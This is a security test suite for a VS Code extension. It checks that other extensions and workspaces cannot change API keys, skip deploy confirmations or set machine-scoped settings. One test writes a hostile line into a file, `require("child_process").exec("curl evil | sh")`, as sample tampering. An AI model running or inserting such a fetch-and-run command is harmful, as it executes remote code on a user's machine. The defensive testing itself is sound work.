/**
 * The public surface, from another extension's side: our commands run with Production semantics (as VS Code runs
 * them for any extension outside our tests) refuse options that set or clear a key or skip a confirmation; and a
 * workspace cannot set `spawnApp.autoFix` or `spawnApp.sandboxProvider`.
 */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import * as vscode from 'vscode';
import { appUri, EXTENSION_ID, getApi, reset, spawnCalculator, writeText } from './helpers';

describe('public surface: what another extension or a workspace cannot do', () => {
  const original = 'sk-ant-original-0123456789';
  const e2bOriginal = 'e2b_original_0123456789';
  before(async () => {
    await reset();
    await vscode.commands.executeCommand('spawnApp.setAnthropicApiKey', { value: original });
    await vscode.commands.executeCommand('spawnApp.setE2bApiKey', { value: e2bOriginal });
  });
  afterEach(async () => {
    (await getApi()).testing.commandPolicy.scriptedOptions = true;
  });
  after(async () => {
    await reset();
    await vscode.commands.executeCommand('spawnApp.setAnthropicApiKey', { clear: true });
    await vscode.commands.executeCommand('spawnApp.setE2bApiKey', { clear: true });
  });

  /** Runs a command the way another extension would: outside ExtensionMode.Test's scripted options. */
  async function asOtherExtension(command: string, ...args: unknown[]): Promise<unknown> {
    const api = await getApi();
    api.testing.reporter.lastError = undefined;
    api.testing.commandPolicy.scriptedOptions = false;
    try {
      return await vscode.commands.executeCommand(command, ...args);
    } finally {
      api.testing.commandPolicy.scriptedOptions = true;
    }
  }

  it('{value} and {clear} cannot replace or remove a key: refused in one sentence, the keys unchanged', async () => {
    const api = await getApi();
    for (const [command, arg] of [
      ['spawnApp.setAnthropicApiKey', { value: 'sk-ant-attacker-0123456789' }],
      ['spawnApp.setAnthropicApiKey', { clear: true }],
      ['spawnApp.setE2bApiKey', { value: 'e2b_attacker_0123456789' }],
      ['spawnApp.setE2bApiKey', { clear: true }],
    ] as const) {
      assert.equal(await asOtherExtension(command, arg), undefined, command);
      const err = api.testing.reporter.lastError;
      assert.equal(err?.command, command);
      assert.equal(err?.code, 'usage');
      assert.match(err!.message, /^Spawn App refused a call to spawnApp\.set\w+ApiKey with \{(value|clear)\}: .* run the command yourself to be asked\.$/);
    }
    assert.equal(await api.testing.secrets.get('anthropic'), original);
    assert.equal(await api.testing.secrets.get('e2b'), e2bOriginal);
  });

  it('{confirm: true} cannot skip the deploy dialog: refused, nothing created; the same call from our tests works', async () => {
    const api = await getApi();
    const spawned = await spawnCalculator();
    assert.ok(spawned);
    const before = api.registry.list().length;
    assert.equal(await asOtherExtension('spawnApp.deploy', { appId: spawned.appId, confirm: true, provider: 'local' }), undefined);
    assert.match(api.testing.reporter.lastError?.message ?? '', /refused a call to spawnApp\.deploy with \{confirm\}/);
    assert.equal(api.registry.list().length, before, 'no sandbox was created');
    assert.equal(await asOtherExtension('spawnApp.spawn', { appType: 'webapp', prompt: 'a counter', generator: 'templates', deploy: true, confirm: true }), undefined);
    assert.equal(api.tree.apps().length, 1, 'no second app either');
    assert.equal(await asOtherExtension('spawnApp.deleteDraft', { appId: spawned.appId, confirm: true }), undefined);
    assert.ok(api.tree.app(spawned.appId), 'the draft is still there');
    // Our own tests (ExtensionMode.Test) keep their scripted options.
    const deployed = await vscode.commands.executeCommand<{ provider: string } | undefined>('spawnApp.deploy', { appId: spawned.appId, confirm: true, provider: 'local' });
    assert.equal(deployed?.provider, 'local');
  });

  it('a workspace cannot set spawnApp.autoFix or spawnApp.sandboxProvider (machine scope)', async () => {
    const props = vscode.extensions.getExtension(EXTENSION_ID)!.packageJSON.contributes.configuration.properties as Record<string, { scope?: string }>;
    assert.ok(vscode.workspace.workspaceFolders?.length, 'a folder is open');
    const config = vscode.workspace.getConfiguration('spawnApp');
    for (const [key, value] of [['autoFix', true], ['sandboxProvider', 'local']] as const) {
      assert.equal(props[`spawnApp.${key}`]?.scope, 'machine', key);
      await assert.rejects(Promise.resolve(config.update(key, value, vscode.ConfigurationTarget.Workspace)), (err: Error) => {
        assert.match(err.message, /Unable to write/i, key);
        return true;
      });
      const seen = vscode.workspace.getConfiguration('spawnApp').inspect(key);
      assert.equal(seen?.workspaceValue, undefined, key);
      assert.equal(seen?.workspaceFolderValue, undefined, key);
    }
  });

  it('"ours" is this window’s decision: a spawned template is, until edited; a folder claiming "generator": "templates" is not', async () => {
    const api = await getApi();
    await reset();
    const spawned = await spawnCalculator();
    const app = api.tree.app(spawned!.appId)!;
    assert.equal(api.tree.specOf(app).ours, true);
    await writeText(appUri(app.name, 'app.js'), 'require("child_process").exec("curl evil | sh")');
    assert.equal(api.tree.specOf(app).ours, false, 'edited');
    const dir = mkdtempSync(path.join(os.tmpdir(), 'spawn-ours-'));
    try {
      mkdirSync(path.join(dir, 'app'));
      writeFileSync(path.join(dir, 'app/spawn-app.json'), JSON.stringify({ appType: 'webapp', startCommand: 'node server.js', generator: 'templates' }));
      writeFileSync(path.join(dir, 'app/server.js'), 'console.log(1)');
      const opened = await vscode.commands.executeCommand<{ appId: string } | undefined>('spawnApp.openFromFolder', { folder: path.join(dir, 'app') });
      const fromDisk = api.tree.app(opened!.appId)!;
      assert.equal(fromDisk.generator, 'templates', 'kept as information');
      assert.equal(api.tree.specOf(fromDisk).ours, false);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
